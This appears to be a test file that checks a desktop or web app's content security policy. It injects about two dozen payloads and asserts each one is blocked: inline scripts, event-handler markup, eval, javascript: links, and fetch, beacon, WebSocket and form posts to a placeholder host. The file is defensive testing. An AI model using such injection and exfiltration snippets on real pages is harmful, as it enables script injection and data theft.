// S5: the content security policy is sent and stops every way of bringing foreign code or addresses into the page.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type LaunchedApp, launchApp } from '../support/launch-app.ts'

let launched: LaunchedApp

beforeAll(async () => {
  launched = await launchApp()
  await launched.page.waitForURL(/#\//) // the page has chosen its first place
})
afterAll(() => launched?.close())

/** Each runs in the page as text, would set `ran` if it had its way, and must raise a violation. */
const injections: Readonly<Record<string, string>> = {
  'an inline script': `const s = document.createElement('script'); s.append('ran = 1'); document.body.append(s)`,
  'an event handler': `const b = document.createElement('button'); b.setAttribute('onclick', 'ran = 1'); document.body.append(b); b.click()`,
  'markup with an event handler': `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="ran = 1">')`,
  eval: `(0, eval)('ran = 1')`,
  Function: `new Function('ran = 1')()`,
  'a timer with text': `setTimeout('ran = 1', 0)`,
  'a data: script': `const s = document.createElement('script'); s.src = 'data:text/javascript,ran=1'; document.body.append(s)`,
  'a script of another origin': `import('https://example.invalid/x.js').catch(() => {})`,
  'a javascript: link': `const a = document.createElement('a'); a.href = 'javascript:ran=1'; document.body.append(a); a.click()`,
  'a remote picture': `const i = new Image(); i.onload = () => { ran = 1 }; i.src = 'https://example.invalid/x.png'; document.body.append(i)`,
  'a fetch out': `fetch('https://example.invalid/').then(() => { ran = 1 }, () => {})`,
  'a beacon out': `navigator.sendBeacon('https://example.invalid/', 'x')`,
  'a WebSocket out': `new WebSocket('wss://example.invalid/').onopen = () => { ran = 1 }`,
  'an event stream out': `new EventSource('https://example.invalid/').onopen = () => { ran = 1 }`,
  'a form post': `const f = document.createElement('form'); f.action = 'https://example.invalid/'; f.method = 'post'; document.body.append(f); f.submit()`,
  'a base tag': `const b = document.createElement('base'); b.href = 'https://example.invalid/'; document.head.append(b)`,
  'an object': `const o = document.createElement('object'); o.data = '/assets/x.svg'; document.body.append(o)`,
  'a frame': `const f = document.createElement('iframe'); f.src = 'https://example.invalid/'; document.body.append(f)`,
  'a blob worker': `new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => { ran = 1 }`,
  'a style element': `const s = document.createElement('style'); s.append('body { color: red }'); document.head.append(s)`,
  'a remote style sheet': `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://example.invalid/x.css'; document.head.append(l)`,
  'a remote font': `new FontFace('x', 'url(https://example.invalid/x.woff2)').load().catch(() => {})`,
  WebAssembly: `WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)).then(() => { ran = 1 }, () => {})`,
  'a policy of its own for trusted types': `trustedTypes.createPolicy('default', { createScript: (s) => s })`,
}

describe('S5 the content security policy', () => {
  it('is sent with the page, word for word', async () => {
    const headers = await launched.page.evaluate(async () => Object.fromEntries((await fetch('landscope://app/')).headers))
    expect(headers['content-security-policy']).toBe(
      "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' blob: data:; font-src 'self'; connect-src 'self'; worker-src 'self'; " +
        "frame-src 'none'; object-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; " +
        'trusted-types landscope-worker',
    )
    expect(headers['x-content-type-options']).toBe('nosniff')
  })

  it.each(Object.entries(injections))('stops %s', async (_name, code) => {
    const address = launched.page.url()
    const outcome = await launched.page.evaluate(
      async (text) => {
        Object.assign(globalThis, { ran: 0 })
        let violated = ''
        const seen = new Promise<void>((resolve) => {
          addEventListener(
            'securitypolicyviolation',
            (event) => {
              violated = event.effectiveDirective
              resolve()
            },
            { once: true },
          )
          setTimeout(resolve, 3_000)
        })
        // The attack has to be the page's own code, run by the page: what the debugger calls is not held by the policy.
        const attack = (globalThis as unknown as { attacks: Record<string, () => void> }).attacks[text]
        setTimeout(() => {
          try {
            attack?.()
          } catch {
            // a thrown error is one of the ways to be stopped
          }
        })
        await seen
        await new Promise((resolve) => setTimeout(resolve, 50))
        return { violated, ran: (globalThis as unknown as { ran: number }).ran }
      },
      await define(code),
    )
    expect(outcome.violated).not.toBe('')
    expect(outcome.ran).toBe(0)
    expect(launched.page.url()).toBe(address)
  })

  it('lets the page itself load without a single violation', async () => {
    const messages: string[] = []
    launched.page.on('console', (message) => messages.push(message.text()))
    await launched.page.reload()
    await launched.page.waitForLoadState('networkidle')
    expect(messages.filter((text) => /content security policy|trusted ?type/i.test(text))).toEqual([])
  })
})

/** Puts code into the page through the debugger, which the policy does not hold; returns its name. */
async function define(code: string): Promise<string> {
  const name = `attack${Math.abs(hash(code))}`
  await launched.page.evaluate(`globalThis.attacks ??= {}; globalThis.attacks.${name} = () => { ${code} }; undefined`)
  return name
}

function hash(text: string): number {
  let h = 0
  for (const c of text) h = (h * 31 + (c.codePointAt(0) ?? 0)) | 0
  return h
}
